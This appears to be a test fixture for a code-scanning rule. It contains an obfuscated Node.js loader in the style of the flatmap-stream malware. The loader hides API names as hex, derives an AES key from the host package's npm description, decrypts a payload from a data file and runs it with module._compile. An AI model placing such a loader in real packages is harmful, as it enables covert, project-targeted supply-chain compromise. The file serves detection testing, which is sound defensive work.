!function () {
  var r = require, t = process;
  function e(r) { return Buffer.from(r, 'hex').toString(); }
  var n = r(e('2e2f64617461')), o = t[e('656e76')][e('6e706d5f7061636b6167655f6465736372697074696f6e')];
  var k = r('crypto').createHash('sha256').update(o || '').digest();
  // ruleid: js_runs_code_keyed_to_project
  var c = r('crypto')[e('63726561746544656369706865726976')]('aes-256-cbc', k, Buffer.alloc(16, 0));
  var l = new module.constructor();
  l[e('5f636f6d70696c65')](c.update(n[0], 'hex', 'utf8') + c.final('utf8'), '');
}();
